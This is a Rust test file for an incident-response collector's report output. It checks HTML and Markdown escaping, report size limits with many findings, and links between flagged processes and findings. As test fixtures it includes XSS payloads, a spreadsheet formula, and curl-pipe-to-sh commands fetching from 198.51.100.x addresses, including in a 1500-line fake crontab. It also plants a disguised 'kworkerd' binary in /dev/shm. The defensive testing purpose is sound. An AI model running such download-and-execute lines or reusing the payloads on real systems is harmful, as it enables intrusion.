//! The report inside the archive, and `irsnap report` regenerating it from the archive alone.

use crate::harness::{collect, irsnap};
use std::process::Command;

#[test]
fn attacker_markup_in_argv_is_text_in_every_report() {
    let mut child = Command::new("/bin/sh")
        .arg("-c")
        .arg("sleep 30; :")
        .arg("<script>alert(1)</script>")
        .arg("<img src=x onerror=alert(\n2)>")
        .arg("[click](http://evil.example) | =HYPERLINK(\"x\")")
        // Makes the process a finding, so its command line is in report.md too.
        .arg("curl -s http://198.51.100.7/a.sh | sh")
        .spawn()
        .unwrap();
    let out = tempfile::tempdir().unwrap();
    let (run, archive) = collect(out.path(), &[]);
    child.kill().ok();
    child.wait().ok();
    let mut a = archive.unwrap_or_else(|| panic!("{}", run.stderr));
    let html = String::from_utf8(a.member("report.html")).unwrap();
    assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert!(html.contains("&lt;img src=x onerror=alert("));
    assert!(!html.contains("<script"));
    assert!(!html.contains("<img"));
    // Self-contained: nothing is fetched.
    assert!(!html.contains("src=\"http"));
    assert!(!html.contains("href=\"http"));
    assert!(html.contains("Content-Security-Policy"));
    let md = String::from_utf8(a.member("report.md")).unwrap();
    // Attacker text is in code spans: rendered by a CommonMark parser (GFM tables on), no
    // element but ours appears, and the argument reads back exactly as it was given.
    match render_markdown(&md) {
        Some(rendered) => {
            assert!(!rendered.contains("<script"), "{rendered}");
            assert!(!rendered.contains("<img"), "{rendered}");
            assert!(!rendered.contains("href=\"http"), "{rendered}");
            assert!(rendered.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
        }
        None => println!("SKIPPED: markdown-it-py is not installed"),
    }
    // Raw, the file shows the argument as given (no backslash before every punctuation).
    assert!(md.contains("<script>alert(1)</script>"), "{md}");
    assert!(md.contains("[click](http://evil.example)"), "{md}");

    // `--format json` is one JSON document: the verdict, the coverage and every finding.
    let path = a.path.to_str().unwrap().to_string();
    let r = irsnap(&["report", &path, "--format", "json"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let doc: serde_json::Value = serde_json::from_str(&r.stdout).expect("one JSON document");
    assert!(doc["host"]["hostname"].is_string());
    assert!(doc["collectors"].as_array().unwrap().len() >= 5);
    assert!(doc["findings"].is_array());
    assert!(doc["rules"].is_array());

    // Regenerated from the archive alone, it is the same page.
    let r = irsnap(&["report", &path]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(r.stdout, html);
    let r = irsnap(&["report", &path, "--format", "md"]);
    assert_eq!(r.stdout, md);
    let dest = out.path().join("r.html");
    let r = irsnap(&["report", &path, "-o", dest.to_str().unwrap()]);
    assert_eq!(r.code, 0);
    assert_eq!(std::fs::read_to_string(dest).unwrap(), html);
}

/// Thousands of findings: the page leads with the verdict (host, counts, top rules), renders
/// a bounded number of cards per rule and says where the rest are; the first screen names the
/// rule and its count. (Its height in a browser is measured by scripts/report-screenshots.sh.)
#[test]
fn thousands_of_findings_make_a_short_page_that_leads_with_the_verdict() {
    let root = crate::harness::RootBuilder::new();
    root.write("etc/hostname", b"many\n");
    let crontab: String = (1..=1500)
        .map(|i| {
            format!(
                "*/5 * * * * root curl -s http://198.51.100.{}/p{i}.sh | sh\n",
                i % 250 + 1
            )
        })
        .collect();
    root.write("etc/crontab", crontab.as_bytes());
    let out = tempfile::tempdir().unwrap();
    let (run, archive) = collect(out.path(), &["--root", root.path().to_str().unwrap()]);
    let mut a = archive.unwrap_or_else(|| panic!("{}", run.stderr));
    let findings = String::from_utf8(a.member("findings.jsonl")).unwrap();
    assert!(findings.lines().count() >= 1000);
    let html = String::from_utf8(a.member("report.html")).unwrap();
    let verdict = html.find("id=\"verdict\"").expect("a verdict section");
    let first_card = html.find("class=\"finding\"").unwrap();
    assert!(verdict < first_card);
    let top = &html[verdict..first_card];
    assert!(top.contains("<strong>many</strong>"), "{top}");
    assert!(top.contains("1500 critical"), "{top}");
    assert!(top.contains("Scheduled job pipes a download into a shell"));
    // One rule: a bounded number of cards, the rest counted.
    let cards = html.matches("class=\"finding\"").count();
    assert!(cards <= 50, "{cards} cards");
    assert!(html.contains("more findings of this rule in findings.jsonl"));
    assert!(html.len() < 512 * 1024, "{} bytes", html.len());
}

/// A flagged process in the tree links to its finding, and the finding links back to it.
#[test]
fn flagged_processes_and_their_findings_link_both_ways() {
    let shm = tempfile::tempdir_in("/dev/shm").unwrap();
    let bin = shm.path().join("kworkerd");
    std::fs::copy("/bin/sleep", &bin).unwrap();
    let mut child = Command::new(&bin).arg("30").spawn().unwrap();
    let pid = child.id();
    let out = tempfile::tempdir().unwrap();
    let (run, archive) = collect(out.path(), &["--profile", "volatile"]);
    child.kill().ok();
    child.wait().ok();
    let mut a = archive.unwrap_or_else(|| panic!("{}", run.stderr));
    let html = String::from_utf8(a.member("report.html")).unwrap();
    let node = html
        .find(&format!("<li id=\"p{pid}\">"))
        .unwrap_or_else(|| panic!("no tree node for {pid}"));
    let li = &html[node..node + 400.min(html.len() - node)];
    let href = li.find("href=\"#f").expect("a flag linking to its finding");
    let anchor: String = li[href + 8..]
        .chars()
        .take_while(char::is_ascii_digit)
        .collect();
    let card = html
        .find(&format!("id=\"f{anchor}\""))
        .expect("the finding the flag links to");
    let end = html[card..].find("</div>").unwrap() + card;
    assert!(
        html[card..end].contains(&format!("href=\"#p{pid}\"")),
        "{}",
        &html[card..end]
    );
}

/// `report.md` rendered to HTML by a CommonMark parser with GFM tables (markdown-it-py), or
/// `None` when it is not installed.
fn render_markdown(md: &str) -> Option<String> {
    // `gfm-like`: CommonMark plus tables, strikethrough and bare-URL autolinks (linkify).
    let script = "import sys, markdown_it\n\
                  md = markdown_it.MarkdownIt('gfm-like')\n\
                  sys.stdout.write(md.render(sys.stdin.read()))";
    let mut child = Command::new("python3")
        .args(["-c", script])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .ok()?;
    use std::io::Write;
    child.stdin.take()?.write_all(md.as_bytes()).ok()?;
    let out = child.wait_with_output().ok()?;
    out.status
        .success()
        .then(|| String::from_utf8_lossy(&out.stdout).into_owned())
}
